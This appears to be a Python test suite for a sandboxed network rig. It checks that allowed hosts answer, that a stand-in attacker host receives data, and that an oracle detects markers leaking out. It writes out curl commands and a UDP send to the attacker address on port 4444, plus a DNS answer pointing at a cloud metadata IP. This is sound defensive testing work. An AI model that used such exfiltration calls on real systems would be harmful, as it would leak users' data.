"""The rig keeps its promises: honest servers answer, the attacker keeps what it gets, and the oracle
tells the one from the other. Without this the other suites would prove nothing."""

import os
import socket

from rig.cases import Case, expand, rows
from rig.internet import ATTACKER, ATTACKER6, USER, WWW

ANSWERS = [
    ("https", "curl -sS https://www.allowed.example/", "allowed.example says hello"),
    ("http", "curl -sS http://www.allowed.example/echo", "GET www.allowed.example /echo"),
    ("dns", "dig +short www.allowed.example", WWW),
    ("dns over tcp", "dig +tcp +short txt txt.allowed.example", "a text"),
    ("evil zone through the resolver", "dig +short x.evil.example", ATTACKER),
    ("lying zone through the resolver", "dig +short metadata.lie.example", "169.254.169.254"),
    ("no name beside them", "dig +noall +comments nowhere.allowed.example", "NXDOMAIN"),
    ("attacker by http", f"curl -sS http://{ATTACKER}/", "got it"),
    ("attacker by https", f"curl -sSk https://{ATTACKER}/", "got it"),
    ("attacker by IPv6", f"curl -sSg http://[{ATTACKER6}]/", "got it"),
    ("attacker is not trusted", "curl -sS https://evil.example/ || echo refused", "refused"),
]


@expand
class Rig(Case):
    @rows(ANSWERS)
    def answer(self, _, command, expected):
        result = self.machine.plain(["sh", "-c", command])
        self.assertIn(expected, result.out, result)

    def test_commands_run_without_privilege(self):
        self.assertEqual(self.machine.plain(["id", "-u"]).out.strip(), str(USER[0]))

    def test_oracle_sees_what_arrives_and_nothing_else(self):
        marker = os.urandom(12).hex()
        self.oracle.mark()
        self.machine.plain(["curl", "-sS", "https://www.allowed.example/echo?" + marker])
        self.oracle.fence()
        self.assertFalse(self.oracle.holds(marker.encode()))
        self.assertEqual(self.oracle.packets(), [])
        self.machine.plain(["curl", "-sSk", f"https://{ATTACKER}/?" + marker])
        self.assertTrue(self.oracle.wait_for(marker.encode()), "TLS is taken off")
        self.assertNotEqual(self.oracle.packets(), [])

    def test_oracle_sees_datagrams(self):
        marker = os.urandom(12).hex().encode()
        self.oracle.mark()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(marker, (ATTACKER, 4444))
            sock.settimeout(5)
            self.assertEqual(sock.recv(100), b"got it")
        self.assertTrue(self.oracle.wait_for(marker))
        self.oracle.mark()
        self.assertFalse(self.oracle.holds(marker))
